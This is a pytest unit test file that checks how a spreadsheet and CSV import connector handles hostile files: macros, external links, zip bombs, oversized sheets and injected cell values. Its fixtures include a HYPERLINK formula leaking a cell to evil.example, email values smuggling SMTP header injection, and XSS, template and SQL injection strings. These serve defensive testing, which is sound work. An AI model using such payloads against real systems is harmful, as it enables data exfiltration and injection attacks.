"""Workbooks and texts made to harm: a sentence, nothing half imported, nothing read that is not the table's."""

import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from tenshu.collect.connectors.file import Choice, look_at, stage_tables
from tenshu.collect.connectors.file.errors import (
    FileProtected,
    FileRefused,
    FileTooBig,
    TooManyColumns,
    WorkbookUnreadable,
)
from tenshu.kit.japanese import normalise_email
from tests.unit.collect.connectors.file.books import write_ods, write_xls
from tests.unit.collect.connectors.file.support import (
    RECEIVED,
    codes_of,
    look,
    rejects_of,
    stage,
    stage_all,
    traits_of,
    write_book,
    write_csv,
)

PEOPLE = [["会員番号", "氏名", "メール"], ["1", "佐藤 花子", "a@example.jp"], ["2", "鈴木 一郎", "b@example.jp"]]
TERMS = {"shop_zone": "Asia/Tokyo", "currency": "JPY", "received_at": RECEIVED}


def with_parts(
    path: Path, parts: Mapping[str, bytes], *, replaced: Mapping[str, tuple[bytes, bytes]] | None = None
) -> Path:
    """Write a good workbook with more parts in its zip file, and with some text of its parts replaced."""
    good = write_book(path.with_suffix(".good.xlsx"), {"顧客": PEOPLE})
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            old, new = (replaced or {}).get(entry.filename, (b"", b""))
            content = source.read(entry)
            target.writestr(entry.filename, content.replace(old, new) if old else content)
        for name, content in parts.items():
            target.writestr(name, content)
    good.unlink()
    return path


def test_macros_are_neither_run_nor_read_and_it_is_told(tmp_path: Path) -> None:
    path = with_parts(tmp_path / "a.xlsm", {"xl/vbaProject.bin": b"Attribute VB_Name"})
    staged = stage(path)
    assert staged.accepted == 2
    assert "macros" in codes_of(staged)


def test_links_to_other_workbooks_are_not_followed_and_it_is_told(tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("SECRET-7f3a")
    target = f'<Relationship Id="rId1" Target="file://{secret}" TargetMode="External"/>'
    path = with_parts(
        tmp_path / "a.xlsx",
        {"xl/externalLinks/externalLink1.xml": b"<externalLink/>", "xl/externalLinks/_rels/x.rels": target.encode()},
    )
    staged = stage(path)
    assert "links" in codes_of(staged)
    assert "SECRET" not in str(traits_of(staged))


def test_formula_counts_by_its_stored_result(tmp_path: Path) -> None:
    cell = b'<c r="C2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1)</f><v>c@example.jp</v></c>'
    path = with_parts(
        tmp_path / "a.xlsx", {}, replaced={"xl/worksheets/sheet1.xml": (b'<c r="C2" t="s"><v>5</v></c>', cell)}
    )
    assert traits_of(stage(path))[0]["email"] == "c@example.jp"


def test_old_workbook_with_a_password_is_told(tmp_path: Path) -> None:
    path = write_xls(tmp_path / "a.xls", "顧客", [list(row) for row in PEOPLE], password=b"secret")
    with pytest.raises(FileProtected):
        look(path)


def test_bomb_is_refused_by_look_and_by_stage_alike(tmp_path: Path) -> None:
    path = with_parts(tmp_path / "a.xlsx", {"xl/media/x.xml": bytes(64 << 20)})
    with pytest.raises(FileTooBig):
        look(path)
    with pytest.raises(FileTooBig):
        stage(path)
    assert not (tmp_path / "staged").exists()


def test_opendocument_that_repeats_a_row_a_million_times_stays_bounded(tmp_path: Path) -> None:
    path = write_ods(tmp_path / "a.ods", {"顧客": [["会員番号", "氏名"], ["1", "佐藤"]]})
    with zipfile.ZipFile(path) as source:
        parts = {entry.filename: source.read(entry) for entry in source.infolist()}
    cell = b'<table:table-cell table:number-columns-repeated="16000"/>'
    more = b'<table:table-row table:number-rows-repeated="1048000">' + cell + b"</table:table-row></table:table>"
    parts["content.xml"] = parts["content.xml"].replace(b"</table:table>", more)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    assert look(path).tables[0].rows == 1


def test_merged_cells_over_the_whole_sheet_cost_nothing(tmp_path: Path) -> None:
    merges = b'<mergeCells count="2"><mergeCell ref="A3:A1048576"/><mergeCell ref="B3:XFD1048576"/></mergeCells>'
    path = with_parts(
        tmp_path / "a.xlsx", {}, replaced={"xl/worksheets/sheet1.xml": (b"</sheetData>", b"</sheetData>" + merges)}
    )
    assert stage(path).accepted == 2


def test_twenty_thousand_columns_are_refused_with_their_number(tmp_path: Path) -> None:
    wide = write_csv(tmp_path / "a.csv", [[f"h{number}" for number in range(20_000)], ["1"] * 20_000])
    with pytest.raises(TooManyColumns, match="20,000"):
        look(wide)
    with pytest.raises(WorkbookUnreadable, match="16000 columns"):
        look(write_book(tmp_path / "a.xlsx", {"顧客": [list(range(16_000))]}))


def test_refused_file_leaves_no_cells_behind(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "weather.csv", [["気温", "湿度"], ["20", "50"], ["21", "51"]])
    with pytest.raises(FileRefused):
        stage_tables(path, folder=tmp_path / "staged", **TERMS)  # type: ignore[arg-type]
    look_at(path, folder=tmp_path, **TERMS)  # type: ignore[arg-type]
    assert {each.name for each in tmp_path.iterdir()} == {"weather.csv", "staged"}
    assert not list((tmp_path / "staged").iterdir())


@pytest.mark.parametrize(
    "address",
    [
        "a@x.jp>\r\nRCPT TO:<v@x",
        "a@x.jp,b@x.jp",
        "a@x.jp b@x.jp",
        "a@x.jp;b@x.jp",
        '"a b"@x.jp',
        '"a"@x.jp',
        "а@x.jp",  # a Cyrillic а
        "a@еxample.jp",  # a Cyrillic е
        "a@x",
        "a" * 65 + "@x.jp",
        "a@" + "x" * 250 + ".jp",
        "a\0@x.jp",
        "a@x.jp\nBcc: v@x.jp",
        "<a@x.jp> <b@x.jp>",
        "a@x.jp>\r\nRCPT TO:<v@x.jp>",
        "a@@x.jp",
        "@x.jp",
        "a@",
    ],
)
def test_address_made_to_harm_is_refused_with_its_row(tmp_path: Path, address: str) -> None:
    assert normalise_email(address) is None
    staged = stage(write_csv(tmp_path / "a.csv", [*PEOPLE, ["3", "X", address]]))
    assert (staged.rows, staged.accepted) == (3, 2)
    (row, column, _value, reason) = rejects_of(staged)[0]
    assert (row, column) == (4, "メール")
    assert reason in {"bad_email", "control_character"}


def test_names_full_of_markup_and_templates_stay_text(tmp_path: Path) -> None:
    names = [
        "<script>alert(1)</script>",
        "{{ env }}",
        "${7*7}",
        "=1+1",
        "'; DROP TABLE facts; --",
        '"}}, "x": {"',
    ].copy()
    rows = [PEOPLE[0], *([str(number), name, f"a{number}@example.jp"] for number, name in enumerate(names, 1))]
    staged = stage(write_csv(tmp_path / "a.csv", rows))
    assert [person["full_name"] for person in traits_of(staged)] == names


def test_column_of_the_owners_own_keeps_any_text_as_text(tmp_path: Path) -> None:
    rows = [["会員番号", "メモ"], ["1", '"}}, "email": "x@example.jp'], ["2", "x" * 5000]]
    path = write_csv(tmp_path / "a.csv", rows)
    choice = Choice(kind="customers", columns={"customer_no": ["会員番号"], "extra:メモ": ["メモ"]})
    odd, long = traits_of(stage_all(path, choice)["customers"])
    assert odd == {"customer_no": "1", "メモ": rows[1][1]}
    assert len(long["メモ"]) == 500
